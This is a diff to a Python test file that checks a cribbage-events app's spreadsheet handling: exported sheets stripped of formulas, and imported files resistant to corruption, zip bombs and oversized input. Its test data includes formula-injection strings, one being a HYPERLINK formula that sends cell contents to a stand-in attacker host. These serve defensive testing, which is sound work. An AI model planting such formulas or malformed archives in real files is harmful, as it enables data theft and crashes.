@@ -1,13 +1,24 @@
 """Spreadsheets that go out carry no formulas; those that come in can't fill the machine."""
 
+import contextlib
 import csv
+import datetime
 import io
+import warnings
 import zipfile
 
 import pytest
 from django.test import Client
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import Workbook
 
-from cribbage_events.events.spreadsheet import SpreadsheetError, read_file
+from cribbage_events.events.spreadsheet import (
+    SpreadsheetError,
+    other_sheets,
+    read_file,
+    read_people,
+)
 from tests.afternoon import drawn_event, fresh, games_in, say
 from tests.events.views.desk_client import at
 from tests.factories import rename
@@ -16,6 +27,7 @@ from tests.security.served import every_answer
 
 pytestmark = pytest.mark.django_db
 
+TODAY = datetime.date(2026, 11, 22)
 NAMES = [
     '=HYPERLINK("https://evil.example/?"&A1,"win")',
     "+1+1",
@@ -77,6 +89,54 @@ def test_a_workbook_that_lies_about_its_size_is_refused() -> None:
     data = packed.getvalue().replace((50_000_000).to_bytes(4, "little"), (50).to_bytes(4, "little"))
     with pytest.raises(SpreadsheetError):
         read_file(data)
+
+
+def good_workbook() -> dict[str, bytes]:
+    book, out = Workbook(), io.BytesIO()
+    for row in (["Name", "Born"], ["Ann Lee", TODAY], ["Bob Ray", 18386]):
+        book.worksheets[0].append(row)
+    book.save(out)
+    with zipfile.ZipFile(out) as packed:
+        return {name: packed.read(name) for name in packed.namelist()}
+
+
+@given(data=st.data())
+def test_no_damage_to_a_workbook_is_more_than_a_refusal(data: st.DataObject) -> None:
+    parts = good_workbook()
+    name = data.draw(st.sampled_from(sorted(parts)))
+    content = parts[name]
+    at = data.draw(st.integers(0, len(content)))
+    put = data.draw(st.sampled_from([b"", b"<", b"&", b"9" * 40, b"x", b'"', b"-1", b't="s" ']))
+    parts[name] = content[:at] + put + content[at + data.draw(st.integers(0, 30)) :]
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w") as book:
+        for part, content in parts.items():
+            book.writestr(part, content)
+    with contextlib.suppress(SpreadsheetError), warnings.catch_warnings(action="ignore"):
+        read_people(read_file(packed.getvalue()))
+        other_sheets(packed.getvalue())
+
+
+@given(st.integers(0, 6000), st.binary(min_size=1, max_size=4))
+def test_no_damaged_byte_of_a_workbook_is_more_than_a_refusal(at: int, put: bytes) -> None:
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as book:
+        for part, content in good_workbook().items():
+            book.writestr(part, content)
+    whole = packed.getvalue()
+    at %= len(whole)
+    damaged = whole[:at] + put + whole[at + len(put) :]
+    with contextlib.suppress(SpreadsheetError), warnings.catch_warnings(action="ignore"):
+        read_people(read_file(damaged))
+
+
+def test_a_sheet_as_wide_as_can_be_is_read_as_far_as_a_list_goes() -> None:
+    book, out = Workbook(), io.BytesIO()
+    for row in (["Name"], ["Ann Lee"]):
+        book.worksheets[0].append(row)
+    book.worksheets[0].cell(row=400, column=16_384, value="far away")
+    book.save(out)
+    assert max(map(len, read_file(out.getvalue()))) <= 60
 
 
 @pytest.mark.parametrize("data", [b"a," * 1_500_000, b"Name\n" + b"Ann\n" * 600, b"\n" * 1_000_000])
